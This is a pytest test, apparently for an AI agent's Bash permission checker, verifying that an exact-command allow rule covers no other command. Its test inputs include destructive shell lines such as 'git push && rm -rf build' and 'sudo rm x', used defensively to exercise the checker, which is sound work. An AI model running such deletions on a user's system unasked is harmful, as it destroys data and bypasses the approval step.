@pytest.mark.parametrize(("command", "exact"), [
    ("git push origin topic", "Bash(git push origin topic)"),
    ("pip install 'a b'", "Bash(pip install 'a b')"),
    ("make", ""),  # one word: the proposed rule is as narrow
    ("git push && rm -rf build", ""),  # two parts
    ("make test > /tmp/out", ""),
    ("rm *.o", ""),
    ("rm $X", ""),
    ("sudo rm x", ""),
    ("python - < x.py", ""),
])  # fmt: skip
def test_I13_the_rule_for_exactly_this_command_covers_no_other(command: str, exact: str) -> None:
    asked = verdict(bash(command))
    assert (asked.kind, asked.exact) == ("ask", exact)
    if exact:
        assert verdict(bash(command), allow=exact).kind == "allow"
        assert verdict(bash(f"{command} more"), allow=exact).kind == "ask"
